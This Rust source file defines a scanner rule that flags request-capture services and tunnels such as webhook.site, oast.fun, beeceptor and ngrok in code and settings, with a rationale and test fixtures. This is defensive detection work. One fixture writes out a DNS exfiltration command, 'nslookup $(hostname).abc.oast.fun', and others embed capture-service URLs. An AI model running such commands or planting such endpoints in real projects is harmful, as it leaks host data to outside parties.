//! A service that shows its user what others send to it.

use weighbridge_domain::facts::secret::{AddressClass, AddressContext};
use weighbridge_domain::{Confidence, Severity};

use super::{Check, Example, Findings, Light, Rule, address};
use crate::facts::Facts;
use crate::samples::one;

/// The rule.
pub static RULE: Rule = Rule {
    id: "address-capture-service",
    severity: Severity::High,
    confidence: Confidence::Medium,
    light: Light::Content,
    since: "0.1.0",
    summary: "Program text, a setting or a description names a service that shows its user what others send to it",
    why: "Services that record requests, and those that lend a name to a machine behind a router, are how stolen data leaves: they cost nothing and name nobody. A model needs none of them. In program text a recorder of requests has the severity high, in settings and descriptions medium; a tunnel or a paste service, which demonstrations use too, has medium in settings and low in program text. Text for people is not looked at for this.",
    advice: "See what is sent there, and remove it; where it has run, treat what it could read as known to others.",
    references: &["CWE-201", "AML.T0024", "AML.T0025"],
    examples: EXAMPLES,
    check: Check::File(check),
};

const EXAMPLES: &[Example] = &[
    Example {
        name: "program",
        files: || one("handler.py", "URL = 'https://webhook.site/0123'\n"),
        fires: &["address-capture-service"],
    },
    Example {
        name: "program-twin",
        files: || one("handler.py", "URL = 'https://models.demo.internal/0123'\n"),
        fires: &[],
    },
    Example {
        name: "remark",
        files: || one("handler.py", "# tried with https://webhook.site/0123\n"),
        fires: &[],
    },
    Example {
        name: "without-scheme",
        files: || one("start.sh", "nslookup $(hostname).abc.oast.fun\n"),
        fires: &["address-capture-service"],
    },
    Example {
        name: "settings",
        files: || one("settings.yaml", "report_to: https://demo.beeceptor.com/x\n"),
        fires: &["address-capture-service"],
    },
    Example {
        name: "settings-twin",
        files: || one("settings.yaml", "report_to: https://mybeeceptor.community/x\n"),
        fires: &[],
    },
    Example {
        name: "tunnel",
        files: || one("settings.yaml", "server: https://demo.ngrok-free.app\n"),
        fires: &["address-capture-service"],
    },
    Example {
        name: "card",
        files: || one("README.md", "Try it with https://webhook.site or ngrok.io\n"),
        fires: &[],
    },
];

fn check(facts: &Facts, findings: &mut Findings<'_>) {
    for (place, address) in address::named(facts, &[AddressClass::Capture, AddressClass::Tunnel]) {
        let what = if address.class == AddressClass::Capture {
            "which shows its user what others send to it"
        } else {
            "which lends names or room to anybody"
        };
        let severity = match (address.class, address.context) {
            (AddressClass::Capture, AddressContext::Code) => Severity::High,
            (AddressClass::Tunnel, AddressContext::Code) => Severity::Low,
            _ => Severity::Medium,
        };
        findings.add(place, format!("{}, {what}", address::told(place, address))).severity = severity;
    }
}
